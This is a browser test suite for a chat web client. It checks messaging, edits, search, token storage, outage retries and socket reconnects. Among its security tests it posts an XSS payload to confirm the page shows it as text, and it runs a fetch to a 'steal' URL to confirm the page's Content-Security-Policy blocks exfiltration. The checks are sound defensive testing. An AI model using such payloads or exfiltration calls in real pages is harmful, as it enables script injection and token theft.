"""Two people chat through the web client in real browsers, against the deployed stack.

The test plays the application's backend: it holds the application token and issues each person
a user token, which they paste into the page's sign-in (the page never sees the application
token). The steps share one chat, in order: Ana (the deployed page, at a desk) starts it, Ben
(the page served from another origin, on a phone-width screen) joins it. Screenshots of each step
go to the state folder's screenshots/.
"""

import os
import signal
import time
from contextlib import contextmanager
from urllib.parse import urlsplit

import boto3
import pytest
import requests
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from local.stack import config, services
from tests.helpers import eventually

pytestmark = pytest.mark.browser
XSS = "<img src=x onerror=alert(1)>"


def _field(person, css: str):
    return person.driver.find_element(By.CSS_SELECTOR, css)


def _message(person, number: int) -> dict | None:
    """What a person sees of message `number`: its text, its state and whether it holds any element."""
    return person.js(
        """const li = document.querySelector(`#messages li[data-number="${arguments[0]}"]`);
        if (!li) return null;
        const body = li.querySelector('.body');
        return {body: body.textContent, state: li.dataset.state, elements: body.children.length};""",
        number,
    )


def _post(person, text: str) -> None:
    box = _field(person, "#composer-body")
    box.send_keys(text)
    box.send_keys(Keys.ENTER)  # Enter sends, as a person types it


def _posted(person, text: str) -> int:
    """The number of the message with `text`, once the writer has persisted it (the list has it)."""
    return person.until(
        lambda: person.js(
            """return [...document.querySelectorAll('#messages li')].filter(li =>
                li.dataset.state === '' && li.querySelector('.body').textContent === arguments[0])
                .map(li => Number(li.dataset.number))[0];""",
            text,
        ),
        what=f"message {text!r} listed",
    )


def _user_token(api: str, token: str, user_id: str, name: str) -> str:
    """What the application's backend does for a person who signed in to it."""
    grant = {"user_id": user_id, "name": name}
    issued = requests.post(f"{api}/applications/{token}/user_tokens", json=grant, timeout=30)
    assert issued.status_code == 201, issued.text
    return issued.json()["token"]


def _listed(api: str, number: int, headers: dict | None = None) -> None:
    """Waits until the chat list shows chat `number`: the list reads MySQL, so a chat shows there
    once the writer has stored it (a page loads its list once, then on refresh)."""
    listed = f"{api}/chats?after={number - 1}&limit=1"

    def shown() -> bool:
        return [c["number"] for c in requests.get(listed, headers=headers, timeout=30).json()] == [number]

    eventually(shown)


def _sign_in(person, user_token: str) -> None:
    _field(person, "#user-token-input").send_keys(user_token)
    _field(person, "#sign-in-form button").click()
    person.until(lambda: _field(person, "#new-chat").is_displayed(), what="workspace shown")


@pytest.fixture(scope="module")
def chat(people, deployed_page, served_page, stack_outputs) -> dict:
    ana, ben = people["ana"], people["ben"]
    api = stack_outputs["ApiUrl"]
    created = requests.post(f"{api}/applications", json={"name": "Team room"}, timeout=30)
    assert created.status_code == 201, created.text
    app_token = created.json()["token"]
    tokens = {name: _user_token(api, app_token, name, name.title()) for name in ("ana", "ben")}

    ana.open(deployed_page)
    # A script that ran alert() would leave this mark, whatever the page's own defences.
    ana.js("window.alert = () => { window.alerted = true; };")
    _sign_in(ana, tokens["ana"])
    assert _field(ana, "#me-display").text == "Ana"
    _field(ana, "#new-chat").click()
    ana.until(lambda: _field(ana, "#chat-title").text == "Chat 1", what="chat 1 opened")
    _post(ana, "Hello from Ana, who likes pineapples")
    first = _posted(ana, "Hello from Ana, who likes pineapples")
    ana.screenshot("1-ana-started-a-chat")

    _listed(f"{api}/applications/{app_token}", 1)
    ben.open(served_page)
    ben.js("window.alert = () => { window.alerted = true; };")
    _field(ben, "#remember").click()  # Ben keeps his token on his phone; Ana does not tick it
    _sign_in(ben, tokens["ben"])
    ben.until(
        lambda: ben.driver.find_elements(By.CSS_SELECTOR, '#chat-list [data-chat="1"]'), what="chat listed"
    )
    _field(ben, '#chat-list [data-chat="1"]').click()
    return {"app_token": app_token, "token": tokens["ana"], "tokens": tokens, "first": first, "api": api}


def test_one_posts_and_the_other_sees_it_across_origins(people, chat):
    ana, ben = people["ana"], people["ben"]
    assert ben.until(lambda: _message(ben, chat["first"]), what="Ana's message")["body"] == (
        "Hello from Ana, who likes pineapples"
    )
    _post(ben, "Hi Ana, Ben here")
    number = _posted(ben, "Hi Ana, Ben here")
    assert ana.until(lambda: _message(ana, number), what="Ben's message")["body"] == "Hi Ana, Ben here"
    # The user token stays in the browser, never in the page's address; the application token is
    # nowhere in the page at all.
    for person in (ana, ben):
        assert chat["tokens"][person.name] not in person.driver.current_url
        seen = person.js(
            "return document.documentElement.outerHTML + JSON.stringify({...localStorage, ...sessionStorage})"
        )
        assert chat["app_token"] not in seen
    ben.screenshot("2-ben-joined-on-a-phone")


def _stored(person) -> dict:
    return person.js(
        "return {session: sessionStorage.getItem('chat.token'), local: localStorage.getItem('chat.token')};"
    )


def test_the_token_stays_in_the_tab_unless_remembered_on_this_device(people, chat):
    ana, ben = people["ana"], people["ben"]
    # Ana did not tick "remember": the token is in her tab's sessionStorage, gone when it closes.
    assert _stored(ana) == {"session": chat["tokens"]["ana"], "local": None}
    # Ben did: localStorage, for every tab of his browser.
    assert _stored(ben) == {"session": None, "local": chat["tokens"]["ben"]}
    # A reload keeps each where it was, and the workspace open.
    ana.driver.refresh()
    ana.until(lambda: _field(ana, "#new-chat").is_displayed(), what="workspace after a reload")
    assert _stored(ana) == {"session": chat["tokens"]["ana"], "local": None}


def test_the_page_may_connect_to_the_api_origin_and_its_socket_and_nowhere_else(people, chat, stack_outputs):
    ana = people["ana"]
    api = urlsplit(stack_outputs["ApiUrl"])
    live = urlsplit(stack_outputs["WebSocketApis"]["ChatWebSocket"]["Url"])
    policy = ana.js("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    assert f"connect-src {api.scheme}://{api.netloc} {live.scheme}://{live.netloc};" in policy
    # A script on the page (an injected one, say) cannot send the token anywhere else.
    blocked = ana.driver.execute_async_script(
        """const done = arguments[arguments.length - 1];
        document.addEventListener('securitypolicyviolation',
            (e) => done(e.violatedDirective), {once: true});
        fetch('http://127.0.0.1:9/steal?t=x').catch(() => {});"""
    )
    assert blocked == "connect-src"


def test_a_message_body_is_shown_as_text_never_as_html(people, chat):
    ana, ben = people["ana"], people["ben"]
    _post(ben, XSS)
    number = _posted(ben, XSS)
    seen = ana.until(lambda: _message(ana, number), what="the markup-looking message")
    assert seen == {"body": XSS, "state": "", "elements": 0}
    assert not ana.driver.find_elements(By.CSS_SELECTOR, "#messages img")
    assert not ana.js("return window.alerted") and not ben.js("return window.alerted")
    ana.screenshot("3-markup-shown-as-text")


def _buttons(person, number: int) -> list[str]:
    """The buttons a person is offered on message `number`."""
    return person.js(
        """return [...document.querySelectorAll(`#messages li[data-number="${arguments[0]}"] button`)]
            .filter(b => !b.hidden).map(b => b.textContent);""",
        number,
    )


def test_only_the_author_is_offered_to_edit_or_delete(people, chat):
    ana, ben = people["ana"], people["ben"]
    ana.until(lambda: _buttons(ana, chat["first"]) == ["Edit", "Delete"], what="Ana's own buttons")
    assert ben.until(lambda: _message(ben, chat["first"]), what="Ana's message")
    assert _buttons(ben, chat["first"]) == []


def test_an_edit_shows_for_the_other(people, chat):
    ana, ben = people["ana"], people["ben"]
    edit = _field(ana, f'#messages li[data-number="{chat["first"]}"] .edit')
    edit.send_keys(Keys.ENTER)  # by keyboard: the button, then the text box it opens
    box = ana.until(lambda: ana.driver.switch_to.active_element, what="edit box focused")
    assert box.tag_name == "textarea"
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys("Hello from Ana, who now likes pineapples and mangoes", Keys.ENTER)
    ben.until(
        lambda: (
            (_message(ben, chat["first"]) or {}).get("body")
            == "Hello from Ana, who now likes pineapples and mangoes"
        ),
        what="the edit",
    )
    ben.screenshot("4-ben-sees-the-edit")


def _search(person, q: str) -> list:
    """Searches until something is found (the index follows within seconds); the results' body nodes."""

    def found():
        person.js("document.getElementById('search-heading').textContent = '';")
        field = _field(person, "#search-q")
        field.clear()
        field.send_keys(q, Keys.ENTER)
        try:
            person.until(lambda: _field(person, "#search-heading").text, timeout=10, what="search answered")
        except TimeoutException:  # failed (the page says so in its status) or slow: search again
            return None
        return person.js(
            """return [...document.querySelectorAll('#search-results .body')].map(b => ({
                text: b.textContent, marks: [...b.querySelectorAll('mark')].map(m => m.textContent),
                elements: [...b.querySelectorAll('*')].map(e => e.tagName)}));"""
        )

    return person.until(found, timeout=60, what=f"search for {q!r}")


def test_search_highlights_the_match_and_keeps_markup_as_text(people, chat):
    ana = people["ana"]
    [hit] = _search(ana, "mangoes")
    assert hit["text"] == "Hello from Ana, who now likes pineapples and mangoes"
    assert "".join(hit["marks"]).lower() == "mangoes"
    ana.screenshot("5-search-highlights")

    [hit] = _search(ana, "onerror")
    assert hit["text"] == XSS and hit["marks"] and set(hit["elements"]) == {"MARK"}
    assert not ana.js("return window.alerted")


def test_the_page_fits_a_phone_width_screen(people, chat):
    ben = people["ben"]
    assert ben.js("return document.documentElement.scrollWidth <= window.innerWidth")


@contextmanager
def _redis_paused():
    """Freezes our Redis: creations answer 503 once the API's Redis calls time out, reads go on."""
    redis = next(s for s in services.ALL if s.name == "redis")
    pid = redis.process(config.load()).pid()
    assert pid, "redis is not running"
    os.kill(pid, signal.SIGSTOP)
    try:
        yield
    finally:
        os.kill(pid, signal.SIGCONT)


def test_a_503_shows_a_retry_state_and_the_message_goes_out_once_the_service_is_back(people, chat):
    ana, ben = people["ana"], people["ben"]
    with _redis_paused():
        _post(ana, "Sent while the service was down")
        ana.until(
            lambda: ana.driver.find_elements(By.CSS_SELECTOR, '#messages li[data-state="retrying"]'),
            what="the retry state",
        )
        assert _field(ana, "#status").get_attribute("data-state") == "retrying"
        assert "retrying" in _field(ana, '#messages li[data-state="retrying"] .note').text
        ana.screenshot("6-retrying-on-503")
    number = _posted(ana, "Sent while the service was down")
    assert ben.until(lambda: _message(ben, number), what="the retried message")["state"] == ""
    ana.screenshot("7-delivered-after-the-outage")


def test_a_deleted_message_shows_as_deleted_for_everyone(people, chat):
    ana, ben = people["ana"], people["ben"]
    _post(ben, "Oops, wrong chat")
    number = _posted(ben, "Oops, wrong chat")
    ana.until(lambda: _message(ana, number), what="Ben's slip")
    assert _buttons(ana, number) == []  # not hers to delete
    ben.js("window.confirm = () => true;")  # the page asks first
    _field(ben, f'#messages li[data-number="{number}"] .delete').click()
    gone = "This message was deleted"
    ben.until(lambda: (_message(ben, number) or {}).get("body") == gone, what="Ben's tombstone")
    assert _buttons(ben, number) == []
    ana.until(lambda: (_message(ana, number) or {}).get("body") == gone, what="the deletion, for Ana")
    ana.screenshot("8-a-deleted-message")


def test_unread_counts_show_per_chat_and_in_the_tab_title(people, chat):
    ben = people["ben"]
    auth = {"Authorization": f"Bearer {chat['tokens']['ana']}"}
    number = requests.post(f"{chat['api']}/chats", headers=auth, timeout=30).json()["number"]
    for i in range(3):
        sent = requests.post(
            f"{chat['api']}/chats/{number}/messages", headers=auth, json={"body": f"news {i}"}, timeout=30
        )
        assert sent.status_code == 201
    _listed(chat["api"], number, auth)  # its unread count comes from Redis, its listing from MySQL
    _field(ben, "#refresh-chats").click()  # Ben stays in chat 1: the new chat is unread
    badge = f'#chat-list [data-chat="{number}"] .unread'
    ben.until(lambda: ben.driver.find_elements(By.CSS_SELECTOR, badge) and _field(ben, badge).text == "3",
              what="3 unread")  # fmt: skip
    assert ben.driver.title.startswith("(3)")
    ben.screenshot("9-ben-has-3-unread")
    _field(ben, f'#chat-list [data-chat="{number}"]').click()  # reading them marks them read
    ben.until(lambda: _field(ben, badge).text == "", what="read")
    assert ben.driver.title == "Chat"
    _field(ben, '#chat-list [data-chat="1"]').click()


# Holds the answer of the next "load older" read until the test lets it go: the read is made
# at once (its messages as they are then), and shown only once something changed meanwhile.
HOLD_OLDER = """
const fetched = window.fetch;
let release;
window.releaseOlder = () => release();
const held = new Promise((resolve) => { release = resolve; });
window.fetch = async (url, init) => {
  const answer = await fetched(url, init);
  if (String(url).includes('before=')) { window.fetch = fetched; window.olderRead = true; await held; }
  return answer;
};
"""


def test_a_long_chat_opens_at_its_newest_messages_and_loads_older_ones_above(people, chat, stack_outputs):
    ben = people["ben"]
    api = stack_outputs["ApiUrl"] + f"/applications/{chat['app_token']}"
    number = requests.post(f"{api}/chats", timeout=30).json()["number"]
    for i in range(1, 56):
        assert requests.post(f"{api}/chats/{number}/messages", json={"body": f"line {i}"}, timeout=30).ok
    eventually(lambda: requests.get(f"{api}/chats/{number}/messages?after=54", timeout=30).json())
    _listed(api, number)

    _field(ben, "#refresh-chats").click()
    ben.until(lambda: ben.driver.find_elements(By.CSS_SELECTOR, f'#chat-list [data-chat="{number}"]'))
    _field(ben, f'#chat-list [data-chat="{number}"]').click()
    shown = "return [...document.querySelectorAll('#messages li')].map(li => Number(li.dataset.number))"
    ben.until(lambda: ben.js(shown) == list(range(6, 56)), what="the newest page")
    assert _message(ben, 55)["body"] == "line 55"
    # Message 3 is edited while the older page is on its way with the body it had before: the
    # page shows the edit it was pushed, not the older body the list read answered.
    ben.js(HOLD_OLDER)
    _field(ben, "#older-messages").click()
    ben.until(lambda: ben.js("return window.olderRead"), what="the older page read")
    assert requests.patch(f"{api}/chats/{number}/messages/3", json={"body": "line 3, edited"}, timeout=30).ok
    last = requests.get(f"{api}/chats/{number}", timeout=30).json()["last_change"]
    ben.until(lambda: ben.js("return state.position") >= last, what="the edit pushed")
    ben.js("window.releaseOlder()")
    ben.until(lambda: ben.js(shown) == list(range(1, 56)), what="the older messages, above")
    assert _message(ben, 3)["body"] == "line 3, edited"
    assert not _field(ben, "#older-messages").is_displayed()


def _fetches(person) -> int:
    return person.js(
        "return performance.getEntriesByType('resource').filter(e => e.initiatorType === 'fetch').length"
    )


def test_a_page_following_a_chat_over_its_socket_makes_no_request_while_idle(people, chat):
    ben = people["ben"]
    _field(ben, '#chat-list [data-chat="1"]').click()
    ben.until(lambda: _field(ben, "#status").text == "Live", what="live")
    ben.js("performance.setResourceTimingBufferSize(10000)")
    time.sleep(3)  # the catch-up read that going live starts
    before = _fetches(ben)
    time.sleep(12)  # the page polled every 1 s when a chat was busy, every 10 s when quiet
    assert _fetches(ben) == before
    ben.screenshot("8-live-and-idle")


def test_a_dropped_socket_reconnects_and_what_was_said_meanwhile_shows(people, chat, stack_outputs):
    ana, ben = people["ana"], people["ben"]
    _field(ana, '#chat-list [data-chat="1"]').click()
    for person in (ana, ben):
        person.until(lambda p=person: _field(p, "#status").text == "Live", what="live")
    # The gateway drops every socket of the application (as a deploy or a network change would).
    from chalicelib.domain.tokens import token_hash
    from chalicelib.wiring import settings, stores

    mysql = stores.build(settings.from_env()).mysql
    rows = mysql.all(
        "SELECT c.connection_id FROM socket_connections c JOIN applications a ON a.id = c.application_id "
        "WHERE a.token = %s",
        (token_hash(chat["app_token"]),),
    )
    endpoint = stack_outputs["WebSocketApis"]["ChatWebSocket"]["ManagementEndpoint"]
    gateway = boto3.client("apigatewaymanagementapi", endpoint_url=endpoint)
    for (connection_id,) in rows:
        gateway.delete_connection(ConnectionId=connection_id)
    _post(ana, "Said while the sockets were down")
    number = _posted(ana, "Said while the sockets were down")
    assert ben.until(lambda: _message(ben, number), what="the message said meanwhile")["state"] == ""
    ben.until(lambda: _field(ben, "#status").text == "Live", what="live again")
    _post(ana, "And after they came back")
    number = _posted(ana, "And after they came back")
    assert ben.until(lambda: _message(ben, number), what="the next message")["state"] == ""
